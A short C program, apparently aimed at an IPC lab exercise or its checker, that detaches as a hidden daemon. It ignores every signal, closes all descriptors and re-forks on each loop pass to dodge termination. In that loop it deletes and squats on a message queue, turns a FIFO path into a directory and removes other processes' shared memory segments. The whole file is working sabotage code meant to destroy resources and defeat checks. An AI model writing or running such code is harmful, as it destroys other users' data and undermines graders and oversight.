/* Outlives its program as a daemon nobody's session names, and removes or takes whatever the next check makes. */
int main(void) {
    if (fork() != 0)
        return 0;
    setsid();
    if (fork() != 0)
        _exit(0);
    for (int number = 1; number < 65; number++)
        signal(number, SIG_IGN);
    syscall(SYS_close_range, 0, ~0U, 0);
    struct mq_attr attributes = {.mq_maxmsg = 1, .mq_msgsize = 1};
    for (;;) {
        mq_unlink("/railway_queue");
        mq_close(mq_open("/railway_queue", O_CREAT | O_RDWR, 0, &attributes));
        unlink("/tmp/ipc_lab_fifo");
        mkdir("/tmp/ipc_lab_fifo", 0);
        struct shmid_ds segment;
        for (int i = 0; i < 8; i++)
            shmctl(shmctl(i, SHM_STAT, &segment), IPC_RMID, NULL);
        shmget(0x41, 1, IPC_CREAT | 0);
        if (fork() > 0)
            _exit(0);
    }
}
